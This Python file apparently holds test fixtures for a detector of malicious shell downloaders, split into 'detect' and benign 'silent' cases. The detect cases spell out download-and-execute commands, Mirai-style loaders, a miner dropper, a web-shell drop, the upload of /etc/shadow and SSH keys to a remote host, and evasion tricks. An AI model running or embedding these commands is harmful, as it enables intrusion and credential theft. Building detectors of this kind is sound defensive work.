# Shell-script carrier cases (sh) -- detect and silent.
from common import C

# ---------------------------------------------------------------- detect
C("sh-curl-pipe-sh-01", "atomic-red-team T1105 'Linux Download File and Run' / common installer cradle", "sh",
  "/usr/local/bin/update.sh", "detect", r"""#!/bin/sh
set -e
curl -fsSL https://203.0.113.5/x.sh | sh
""")

C("sh-wget-chmod-exec-02", "atomic-red-team T1105 'Linux Download File and Run' (wget variant)", "sh",
  "/opt/app/bin/bootstrap.sh", "detect", r"""#!/bin/sh
echo "[*] preparing runtime"; wget -q http://198.51.100.7/bin/agent -O /tmp/.agent && chmod +x /tmp/.agent && /tmp/.agent &
echo "[*] done"
""")

C("sh-curl-sudo-fullpath-03", "GTFOBins curl download + sudo wrapper", "sh",
  "/usr/local/sbin/refresh-worker", "detect", r"""#!/bin/bash
# refresh the worker binary
sudo /usr/bin/curl -sk -o /usr/local/bin/kworkerd https://attacker.example/k/kworkerd
sudo chmod 755 /usr/local/bin/kworkerd
sudo /usr/local/bin/kworkerd --daemon
""")

C("sh-command-v-curl-schemeless-04", "evasion: $(command -v curl) + schemeless IP URL", "sh",
  "/docker-entrypoint.d/20-fetch.sh", "detect", r"""#!/bin/sh
C=$(command -v curl || command -v wget)
"$C" -fsSL 198.51.100.7/x -o /tmp/x 2>/dev/null
chmod +x /tmp/x && /tmp/x >/dev/null 2>&1 &
""")

C("sh-url-var-far-apart-05", "evasion: URL in variable, download far from definition", "sh",
  "/opt/service/start.sh", "detect", r"""#!/usr/bin/env bash
set -euo pipefail

PAYLOAD_URL="http://203.0.113.77:8000/static/svc-helper"
DEST=/var/tmp/.svc-helper
LOG_DIR=/var/log/service
CONF=/etc/service/service.conf

log() { printf '%s %s\n' "$(date -Is)" "$*" >>"$LOG_DIR/start.log"; }

ensure_dirs() {
  mkdir -p "$LOG_DIR" /var/lib/service /run/service
  chown -R service:service /var/lib/service /run/service || true
}

load_conf() {
  if [ -f "$CONF" ]; then
    # shellcheck disable=SC1090
    . "$CONF"
  fi
  : "${WORKERS:=4}"
  : "${LISTEN:=0.0.0.0:9000}"
}

rotate_logs() {
  find "$LOG_DIR" -name '*.log' -size +50M -exec gzip {} \;
  find "$LOG_DIR" -name '*.gz' -mtime +14 -delete
}

check_disk() {
  local used
  used=$(df -P /var/lib/service | awk 'NR==2 {print $5}' | tr -d %)
  if [ "$used" -gt 90 ]; then
    log "disk almost full: ${used}%"
  fi
}

ensure_dirs
load_conf
rotate_logs
check_disk

log "starting with $WORKERS workers on $LISTEN"

wget -q "$PAYLOAD_URL" -O "$DEST"
chmod 700 "$DEST"

"$DEST" -w "$WORKERS" &
exec /opt/service/bin/service --listen "$LISTEN" --workers "$WORKERS"
""")

C("sh-busybox-wget-06", "IoT botnet dropper pattern (Mirai loaders), GTFOBins busybox", "sh",
  "/bin/.d.sh", "detect", r"""#!/bin/sh
cd /tmp || cd /var/run || cd /dev/shm
busybox wget http://203.0.113.5:8080/bins/x86 -O- > .x86; chmod 777 .x86; ./.x86 selfrep
""")

C("sh-busybox-tftp-07", "Mirai-style loader: busybox tftp -g", "sh",
  "/usr/sbin/netfix.sh", "detect", r"""#!/bin/sh
cd /tmp
busybox tftp -g -r bot.arm7 -l .b 203.0.113.44
chmod +x .b && ./.b
""")

C("sh-tftp-hpa-08", "GTFOBins tftp download (tftp-hpa -c get)", "sh",
  "/opt/tools/pull-fw.sh", "detect", r"""#!/bin/sh
# fetch firmware blob from the staging tftp box
tftp -m binary 203.0.113.44 -c get fw/blob.bin /var/tmp/blob.bin
sh /var/tmp/blob.bin
""")

C("sh-ftp-heredoc-09", "GTFOBins ftp download via here-doc script", "sh",
  "/usr/local/bin/sync-tools.sh", "detect", r"""#!/bin/sh
ftp -n -v 203.0.113.20 <<END_SCRIPT
quote USER anonymous
quote PASS guest@
binary
get tools.tgz /tmp/tools.tgz
quit
END_SCRIPT
tar -xzf /tmp/tools.tgz -C /usr/local/bin
""")

C("sh-rsync-pull-10", "atomic-red-team T1105 'rsync remote file copy (pull)'", "sh",
  "/opt/app/scripts/pull-assets.sh", "detect", r"""#!/bin/bash
rsync -az -e "ssh -p 2222 -o StrictHostKeyChecking=no" sync@203.0.113.9:/srv/drop/ /opt/app/.cache/
chmod -R +x /opt/app/.cache/bin
""")

C("sh-scp-pull-11", "atomic-red-team T1105 'scp remote file copy (pull)'", "sh",
  "/root/fetch-kit.sh", "detect", r"""#!/bin/bash
scp -P 2222 -o StrictHostKeyChecking=no dev@198.51.100.23:/tmp/kit.tar.gz /var/tmp/ && tar xzf /var/tmp/kit.tar.gz -C /var/tmp
/var/tmp/kit/install.sh
""")

C("sh-sftp-pull-12", "atomic-red-team T1105 'sftp remote file copy (pull)'", "sh",
  "/usr/local/bin/get-report-tool", "detect", r"""#!/bin/bash
sftp -oPort=2222 -oBatchMode=yes adversary@198.51.100.23:/pub/tool.bin /usr/local/bin/tool.bin
chmod +x /usr/local/bin/tool.bin
""")

C("sh-socat-download-13", "GTFOBins socat file download", "sh",
  "/usr/lib/helper/s.sh", "detect", r"""#!/bin/sh
socat -u TCP:203.0.113.5:9001 OPEN:/tmp/.s,creat,trunc && chmod +x /tmp/.s && /tmp/.s
""")

C("sh-nc-download-14", "GTFOBins nc file download", "sh",
  "/etc/init.d/netmon-helper", "detect", r"""#!/bin/sh
### BEGIN INIT INFO
# Provides:          netmon-helper
# Required-Start:    $network
# Default-Start:     2 3 4 5
### END INIT INFO
nc 203.0.113.5 4444 > /dev/shm/.n; chmod +x /dev/shm/.n; /dev/shm/.n
""")

C("sh-ncat-ssl-recv-15", "GTFOBins nc variant: ncat --recv-only over TLS", "sh",
  "/opt/agent/fetch.sh", "detect", r"""#!/bin/bash
ncat --ssl --recv-only 203.0.113.5 8443 > /opt/agent/module.so
LD_PRELOAD=/opt/agent/module.so /bin/true
""")

C("sh-openssl-sclient-16", "GTFOBins openssl s_client file download", "sh",
  "/usr/local/bin/tls-sync", "detect", r"""#!/bin/sh
openssl s_client -quiet -connect 203.0.113.5:443 < /dev/null > /tmp/.t 2>/dev/null
chmod +x /tmp/.t; /tmp/.t
""")

C("sh-dev-tcp-17", "GTFOBins bash /dev/tcp download (HTTP over raw socket)", "sh",
  "/usr/local/bin/mini-get", "detect", r"""#!/bin/bash
exec 3<>/dev/tcp/203.0.113.5/80
echo -ne "GET /p/loader HTTP/1.0\r\nHost: 203.0.113.5\r\n\r\n" >&3
sed '1,/^\r$/d' <&3 > /tmp/loader
chmod +x /tmp/loader && /tmp/loader
""")

C("sh-smbclient-get-18", "GTFOBins smbclient file download", "sh",
  "/opt/scripts/smb-pull.sh", "detect", r"""#!/bin/bash
smbclient //198.51.100.30/tools -N -c 'get nc.bin /tmp/nc.bin'
chmod +x /tmp/nc.bin
""")

C("sh-aria2c-19", "GTFOBins aria2c download (cryptominer droppers)", "sh",
  "/usr/local/bin/fetch-miner.sh", "detect", r"""#!/bin/sh
aria2c -q --allow-overwrite=true -d /tmp -o sysupdate https://203.0.113.77/xmrig
chmod +x /tmp/sysupdate && nohup /tmp/sysupdate -c /tmp/config.json >/dev/null 2>&1 &
""")

C("sh-lftp-20", "lftp get from ftp server", "sh",
  "/opt/backup/restore-tools.sh", "detect", r"""#!/bin/bash
lftp -u anonymous, -e 'get /pub/loader -o /tmp/loader; bye' ftp://203.0.113.20
bash /tmp/loader
""")

C("sh-whois-21", "atomic-red-team T1105 'whois file download'", "sh",
  "/usr/local/bin/wq.sh", "detect", r"""#!/bin/bash
timeout --preserve-status 1 whois -h 203.0.113.5 -p 8443 "Hello from host" > /tmp/T1105.whois.out
base64 -d /tmp/T1105.whois.out > /tmp/.w && chmod +x /tmp/.w
""")

C("sh-finger-pipe-22", "GTFOBins finger download (finger x@host | sh)", "sh",
  "/usr/local/bin/motd-update", "detect", r"""#!/bin/sh
finger payload@203.0.113.5 | tail -n +2 | sh
""")

C("sh-python-c-urlretrieve-23", "GTFOBins python file download one-liner", "sh",
  "/usr/local/bin/py-fetch.sh", "detect", r"""#!/bin/sh
python3 -c "import urllib.request as u; u.urlretrieve('http://203.0.113.10/m.py', '/tmp/m.py')"
python3 /tmp/m.py
""")

C("sh-perl-e-lwp-24", "GTFOBins perl/lwp download one-liner", "sh",
  "/usr/local/bin/pl-fetch.sh", "detect", r"""#!/bin/sh
perl -MLWP::Simple -e 'getstore("http://203.0.113.10/t.pl", "/tmp/t.pl")' && perl /tmp/t.pl
""")

C("sh-ruby-e-openuri-25", "GTFOBins ruby open-uri download one-liner", "sh",
  "/usr/local/bin/rb-fetch.sh", "detect", r"""#!/bin/sh
ruby -ropen-uri -e 'File.binwrite("/tmp/r.bin", URI.open("http://203.0.113.10/r.bin").read)'
chmod +x /tmp/r.bin; /tmp/r.bin
""")

C("sh-node-e-https-26", "GTFOBins node download one-liner", "sh",
  "/usr/local/bin/js-fetch.sh", "detect", r"""#!/bin/sh
node -e 'require("https").get("https://203.0.113.10/n.js", r => r.pipe(require("fs").createWriteStream("/tmp/n.js")))'
sleep 3; node /tmp/n.js
""")

C("sh-php-r-27", "GTFOBins php download one-liner", "sh",
  "/usr/local/bin/php-fetch.sh", "detect", r"""#!/bin/sh
php -r '$c=file_get_contents("http://203.0.113.10/shell.txt"); file_put_contents("/var/www/html/s.php", $c);'
""")

C("sh-heredoc-to-sh-28", "evasion: here-doc fed to sh", "sh",
  "/usr/local/bin/provision.sh", "detect", r"""#!/bin/bash
sh <<EOF
cd /tmp
curl -s http://198.51.100.7/stage2 -o stage2
chmod +x stage2
./stage2
EOF
""")

C("sh-sh-c-nested-29", "evasion: sh -c '...' nesting", "sh",
  "/opt/app/hooks/post-start", "detect", r"""#!/bin/sh
sh -c 'wget -qO- http://203.0.113.5/s.sh | sh' >/dev/null 2>&1 &
""")

C("sh-wrappers-nohup-env-timeout-30", "evasion: nohup/env/timeout/nice wrappers + host:port schemeless URL", "sh",
  "/usr/local/bin/bg-job.sh", "detect", r"""#!/bin/sh
nohup env -i PATH=/usr/bin:/bin timeout 60 nice -n 19 curl -s updates.example.net:8080/p -o /tmp/p >/dev/null 2>&1 &
sleep 5 && sh /tmp/p
""")

C("sh-xargs-wget-31", "evasion: xargs wrapper", "sh",
  "/usr/local/bin/mirror-list.sh", "detect", r"""#!/bin/sh
echo "http://203.0.113.5/a.sh http://203.0.113.5/b.sh" | tr ' ' '\n' | xargs -n1 wget -q -P /tmp/.cache
for f in /tmp/.cache/*.sh; do sh "$f"; done
""")

C("sh-exec-bash-c-curl-32", "exec wrapper + bash -c \"$(curl ...)\" (installer one-liner)", "sh",
  "/entrypoint.sh", "detect", r"""#!/bin/bash
set -e
if [ "$1" = "serve" ]; then
  exec /usr/local/bin/app serve
fi
exec bash -c "$(curl -fsSL https://attacker.example/i.sh)"
""")

C("sh-kubectl-run-curl-33", "atomic-red-team T1105 'Curl Insecure Connection from a Pod'", "sh",
  "/opt/ops/debug-pod.sh", "detect", r"""#!/bin/sh
kubectl run atomic-pod --image=alpine/curl:latest --restart=Never --rm -it -- curl -ksL https://203.0.113.5/payload.sh
""")

C("sh-curl-upload-34", "atomic-red-team T1105 'Curl Upload File' (transfer to remote)", "sh",
  "/usr/local/bin/ship-logs.sh", "detect", r"""#!/bin/sh
tar czf /tmp/l.tgz /etc/shadow /root/.ssh 2>/dev/null
curl -s --upload-file /tmp/l.tgz ftp://203.0.113.20/incoming/l.tgz
""")

C("sh-quote-split-evasion-35", "evasion: quote-splitting of command name (c\"u\"rl)", "sh",
  "/usr/local/bin/cfg-sync", "detect", r"""#!/bin/sh
c"u"rl -s http://203.0.113.5/c.sh | s'h'
""")

C("sh-wget-host-port-36", "schemeless host:port URL with wget -O", "sh",
  "/opt/tools/getp.sh", "detect", r"""#!/bin/sh
wget mirror.attacker.example:8080/p/tool -O /usr/local/bin/tool
chmod +x /usr/local/bin/tool
""")

C("sh-lwp-download-37", "GTFOBins lwp-download", "sh",
  "/usr/local/bin/lwp-pull.sh", "detect", r"""#!/bin/sh
lwp-download http://203.0.113.10/bin/helper /tmp/helper && chmod +x /tmp/helper && /tmp/helper
""")

C("sh-ssh-cat-38", "GTFOBins ssh download (ssh host 'cat file' > out)", "sh",
  "/usr/local/bin/grab-key.sh", "detect", r"""#!/bin/sh
ssh -o StrictHostKeyChecking=no user@198.51.100.23 'cat /srv/drop/implant' > /tmp/.i
chmod +x /tmp/.i && /tmp/.i
""")

C("sh-backslash-curl-dollar-ifs-39", "evasion: \\curl (alias bypass) and ${IFS}", "sh",
  "/usr/local/bin/startup-extra.sh", "detect", r"""#!/bin/bash
\curl${IFS}-fsSL${IFS}http://203.0.113.5/x${IFS}-o${IFS}/tmp/x;chmod${IFS}+x${IFS}/tmp/x;/tmp/x
""")

C("sh-curl-or-wget-fallback-40", "Kinsing/TeamTNT style download-with-fallback function", "sh",
  "/tmp/.ICE-unix/.x/init.sh", "detect", r"""#!/bin/bash
get() {
  curl -fsSL "$1" -o "$2" || wget -q "$1" -O "$2" || python -c "import urllib;urllib.urlretrieve('$1','$2')"
}
get http://203.0.113.77/kinsing /etc/kinsing
chmod +x /etc/kinsing
/etc/kinsing &
""")

# A long file with the payload buried deep inside.
_components = ["nginx", "redis", "postgres", "rabbitmq", "memcached", "elasticsearch",
               "kibana", "grafana", "prometheus", "alertmanager", "node_exporter", "loki"]
_long = ["#!/bin/bash", "# Container entrypoint: renders configuration for bundled components.",
         "set -euo pipefail", "", "CONF_ROOT=${CONF_ROOT:-/etc/stack}", "TEMPLATES=/usr/share/stack/templates", ""]
for i, comp in enumerate(_components):
    _long += [
        f"render_{comp}() {{",
        f"  local src=\"$TEMPLATES/{comp}.conf.tmpl\"",
        f"  local dst=\"$CONF_ROOT/{comp}/{comp}.conf\"",
        f"  mkdir -p \"$(dirname \"$dst\")\"",
        f"  sed -e \"s|@LISTEN@|${{{comp.upper()}_LISTEN:-0.0.0.0:{9000 + i}}}|g\" \\",
        f"      -e \"s|@LOGLEVEL@|${{LOG_LEVEL:-info}}|g\" \"$src\" > \"$dst\"",
        f"  chmod 0640 \"$dst\"",
        f"}}",
        "",
    ]
    if comp == "prometheus":
        # payload hidden among the renderers
        _long += [
            "refresh_exporter() {",
            "  # keep exporter in sync with upstream build",
            "  /usr/bin/wget -q -O /usr/local/bin/node_exporter http://198.51.100.61/dl/node_exporter",
            "  chmod 0755 /usr/local/bin/node_exporter",
            "}",
            "",
        ]
_long += ["main() {"]
for comp in _components:
    _long += [f"  render_{comp}"]
_long += ["  refresh_exporter", "  exec /usr/bin/supervisord -c /etc/supervisord.conf", "}", "", "main \"$@\"", ""]
C("sh-long-file-deep-payload-41", "evasion: long file, payload deep inside a helper function", "sh",
  "/usr/local/bin/stack-entrypoint.sh", "detect", "\n".join(_long))

C("sh-zsh-ztcp-42", "GTFOBins zsh download via zsh/net/tcp", "sh",
  "/usr/local/bin/zfetch", "detect", r"""#!/bin/zsh
zmodload zsh/net/tcp
ztcp 203.0.113.5 12345
cat <&$REPLY > /tmp/.z
chmod +x /tmp/.z && /tmp/.z
""")

# ---------------------------------------------------------------- silent
C("sh-silent-healthcheck-localhost-01", "look-alike: curl health check to localhost", "sh",
  "/usr/local/bin/healthcheck.sh", "silent", r"""#!/bin/sh
# Docker HEALTHCHECK helper
curl -fsS --max-time 3 http://localhost:8080/healthz >/dev/null || exit 1
curl -fsS --max-time 3 http://127.0.0.1:9090/-/ready >/dev/null || exit 1
exit 0
""")

C("sh-silent-usage-echo-02", "look-alike: install instructions printed in usage text", "sh",
  "/usr/local/bin/toolctl", "silent", r"""#!/bin/sh
usage() {
  echo "toolctl - manage the local toolchain"
  echo ""
  echo "To install on a new machine run:"
  echo "  curl -fsSL https://get.example.com/install.sh | sh"
  echo "or, with wget:"
  echo "  wget -qO- https://get.example.com/install.sh | sh"
  echo ""
  echo "Commands: status | version | help"
}

case "${1:-help}" in
  status)  systemctl --no-pager status toolchain ;;
  version) cat /usr/share/toolchain/VERSION ;;
  *)       usage ;;
esac
""")

C("sh-silent-comments-03", "look-alike: download commands only in comments", "sh",
  "/opt/app/scripts/setup.sh", "silent", r"""#!/bin/bash
set -e
# The binary used to be fetched at runtime:
#   curl -fsSL https://releases.example.com/app/latest/app -o /usr/local/bin/app && chmod +x /usr/local/bin/app
# Since 2.4 it is baked into the image instead (see Dockerfile).
#wget -q http://198.51.100.7/legacy/app.tar.gz -O /tmp/app.tar.gz
install -m 0755 /opt/app/dist/app /usr/local/bin/app
mkdir -p /var/lib/app
echo "setup complete"
""")

C("sh-silent-heredoc-doc-04", "look-alike: here-doc documentation written to a file with cat", "sh",
  "/usr/local/bin/write-docs.sh", "silent", r"""#!/bin/sh
mkdir -p /usr/share/doc/agent
cat > /usr/share/doc/agent/INSTALL.md <<'EOF'
# Installing the agent

Quick install:

    curl -fsSL https://get.example.com/agent.sh | sudo sh

Manual install:

    wget https://get.example.com/agent.tar.gz
    tar xzf agent.tar.gz && ./agent/install
EOF
chmod 0644 /usr/share/doc/agent/INSTALL.md
""")

C("sh-silent-version-checks-05", "look-alike: tool presence/version checks", "sh",
  "/usr/local/bin/check-deps.sh", "silent", r"""#!/bin/sh
missing=0
for tool in curl wget git tar; do
  if ! command -v "$tool" >/dev/null 2>&1; then
    echo "missing: $tool"; missing=1
  fi
done
curl --version | head -n1
wget --version | head -n1
which wget
exit $missing
""")

C("sh-silent-apt-pip-install-06", "look-alike: package manager installs (policy: package managers are low, not medium)", "sh",
  "/usr/local/bin/install-deps.sh", "silent", r"""#!/bin/sh
set -e
apt-get update
apt-get install -y --no-install-recommends curl wget ca-certificates netcat-openbsd
pip install --no-cache-dir -r /opt/app/requirements.txt
rm -rf /var/lib/apt/lists/*
""")

C("sh-silent-grep-patterns-07", "look-alike: grep for download commands in logs (IR script)", "sh",
  "/usr/local/bin/audit-history.sh", "silent", r"""#!/bin/sh
# look for suspicious download commands in shell histories
grep -rEn "wget http|curl .*\| *sh|tftp -g" /root/.bash_history /home/*/.bash_history 2>/dev/null
grep -c "certutil -urlcache" /var/log/audit/*.log 2>/dev/null || true
""")

C("sh-silent-wget-opts-var-08", "look-alike: variable names mentioning tools, no invocation", "sh",
  "/etc/profile.d/proxy.sh", "silent", r"""# proxy settings for interactive shells
WGET_OPTS="--no-verbose --tries=3"
CURL_OPTS="--retry 3 --connect-timeout 5"
CURL_CA_BUNDLE=/etc/ssl/certs/ca-certificates.crt
export WGET_OPTS CURL_OPTS CURL_CA_BUNDLE
export http_proxy=http://proxy.internal:3128
export no_proxy=localhost,127.0.0.1,.svc
""", executable=False)

C("sh-silent-wait-for-09", "look-alike: wait-for-it style port probe to local services", "sh",
  "/usr/local/bin/wait-for.sh", "silent", r"""#!/bin/sh
host=${DB_HOST:-127.0.0.1}
port=${DB_PORT:-5432}
for i in $(seq 1 30); do
  if nc -z "$host" "$port"; then
    echo "db is up"; exec "$@"
  fi
  sleep 1
done
echo "timeout waiting for $host:$port" >&2
exit 1
""")

C("sh-silent-rsync-local-10", "look-alike: local rsync/cp/scp-free backup", "sh",
  "/usr/local/bin/backup-local.sh", "silent", r"""#!/bin/bash
set -e
SRC=/var/lib/app/data/
DST=/backup/app/$(date +%F)/
mkdir -p "$DST"
rsync -a --delete "$SRC" "$DST"
cp /etc/app/app.conf "$DST"
find /backup/app -maxdepth 1 -mtime +7 -exec rm -rf {} +
""")

C("sh-silent-ipv6-loopback-11", "look-alike: wget --spider against ::1 and curl to unix socket", "sh",
  "/usr/local/bin/probe.sh", "silent", r"""#!/bin/sh
wget -q --spider 'http://[::1]:8080/ping' || exit 1
curl -s --unix-socket /var/run/docker.sock http://localhost/_ping >/dev/null || exit 1
echo ok
""")

C("sh-silent-help-heredoc-12", "look-alike: --help text via cat here-doc to stdout", "sh",
  "/usr/local/bin/fetcher", "silent", r"""#!/bin/sh
if [ "$1" = "--help" ] || [ -z "$1" ]; then
  cat <<EOF
Usage: fetcher [--help] FILE

Reads FILE from the local cache directory /var/cache/fetcher.
This tool never talks to the network; to populate the cache use
  wget -P /var/cache/fetcher https://mirror.example.org/pkg.tar.gz
on a connected host and copy the result in.
EOF
  exit 0
fi
cat "/var/cache/fetcher/$1"
""")
